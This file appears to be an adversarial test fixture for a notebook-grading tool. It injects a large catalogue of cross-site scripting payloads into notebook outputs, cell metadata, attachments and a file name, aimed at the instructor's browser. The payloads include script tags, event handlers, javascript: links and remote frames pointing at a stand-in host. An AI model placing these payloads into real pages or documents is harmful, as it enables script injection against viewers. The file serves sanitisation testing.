# Aims scripts, frames and remote pictures at the instructor's browser.
# attacks: sabotage
# loses: test-linear-forward test-linear-backward
# %% linear
# </pre></div></script><script>REACHED()</script><img src=x onerror='REACHED()'>
"""--><svg onload='REACHED()'><iframe src='http://reached.example/REACHED'>"""
from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display

bad = ("<script>REACHED()</script><img src=x onerror='REACHED()'>"
       "<iframe src='http://reached.example/REACHED'></iframe>"
       "<style>@import url(http://reached.example/REACHED)</style>"
       "<svg onload='REACHED()'></svg><a href='javascript:REACHED()'>here</a>"
       "<table background='http://reached.example/REACHED'></table>"
       "<meta http-equiv='refresh' content='0;url=http://reached.example/REACHED'>"
       "<base href='http://reached.example/'><link rel=stylesheet href=REACHED.css>"
       "<object data='http://reached.example/REACHED'></object>"
       "<details open ontoggle='REACHED()'><input autofocus onfocus='REACHED()'>"
       "<div id='submission_id' class='nbgrader_cell' style='position:fixed'></div>"
       "<math href='javascript:REACHED()'><mi xlink:href='javascript:REACHED()'>x</mi></math>"
       "<svg><style><img src=x onerror=REACHED()></style></svg>"
       "<noscript><p title='</noscript><img src=x onerror=REACHED()>'></noscript>"
       "<p>$\\href{javascript:REACHED()}{x} \\style{background:url(//REACHED)}{x}$</p>")
for show in (HTML, Javascript, Markdown, Latex):
    display(show(bad))
display({"text/html": bad, "image/svg+xml": bad, "image/png": bad, "image/jpeg": bad,
         "application/javascript": "REACHED()", "text/latex": bad,
         "application/vnd.jupyter.widget-view+json": {"model_id": bad},
         "application/vnd.mermaid": bad, "text/vnd.mermaid": bad}, raw=True,
        metadata={"text/html": {"isolated": True}, "image/png": {"alt": bad, "width": bad}})
display(IFrame("http://reached.example/REACHED", 9, 9))
print(bad, "\x1b]8;;javascript:REACHED()\x07here\x1b]8;;\x07 \x1b[1;31m</span>" + bad)
raise type("</pre>" + bad, (ValueError,), {})("\x1b[1m" + bad)

# %% hand-in
bad = (
    "<script>REACHED()</script> <img src=x onerror='REACHED()'> [a](javascript:REACHED()) "
    "![a](http://reached.example/REACHED.png) <iframe srcdoc='REACHED'></iframe> $\\href"
    "{javascript:REACHED()}{x}$ <form action='http://reached.example/REACHED'></form>\n\n"
    "<div style='background: url(http://reached.example/REACHED)'>x</div>\n\n"
    "$$\\text{<script>REACHED()</script><img src=x onerror='REACHED()'>} \\style{a:b}{x}$$\n\n"
    "[b](data:text/html;base64,PHNjcmlwdD5SRUFDSEVEKCk8L3NjcmlwdD4=) <b id='base_url'>b</b>\n\n"
    "<math><mtext><style><img src=x onerror='REACHED()'></style></mtext></math>\n\n"
    "```mermaid\nflowchart LR\n a[\"<img src=x onerror='REACHED()'>\"]\n```\n\n"
    "```<script>REACHED()</script>\nx\n```\n\n![a](attachment:a.png) <b>bold</b> $\\frac{1}{2}$"
)
for cell in notebook["cells"]:
    cell["metadata"]["name"] = cell["metadata"]["title"] = bad
    if cell["id"].startswith("report"):
        cell["source"] = bad
        cell["attachments"] = {"a.png": {"image/png": '"><script>REACHED()</script>',
                                         "image/svg+xml": bad, "text/html": bad}}
    if "experiment" in cell["metadata"].get("tags", []):
        cell["metadata"]["tags"] += ['"><script>REACHED()</script>']
        cell["outputs"] = [
            {"output_type": "display_data", "metadata": {"text/html": {"isolated": True}},
             "data": {"text/html": bad, "application/javascript": "REACHED()"}},
            {"output_type": "stream", "name": "stdout\"><script>REACHED()</script>", "text": bad},
        ]
own = {"cell_type": "markdown", "metadata": {"tags": [bad]}, "id": "own", "source": bad}
notebook["cells"] += [
    own,
    own | {"cell_type": "raw", "id": "raw", "metadata": {"raw_mimetype": "text/html"}},
    own | {"cell_type": "code", "id": "code", "outputs": [], "execution_count": None,
           "source": "'''" + bad + "'''"},
    own | {"cell_type": "<script>REACHED()</script>"},
]
notebook["metadata"] |= {"title": bad, "widgets": {"x": bad}, "language_info": {"name": bad}}
(folder / "<img src=x onerror=REACHED()>.txt").write_text(bad)
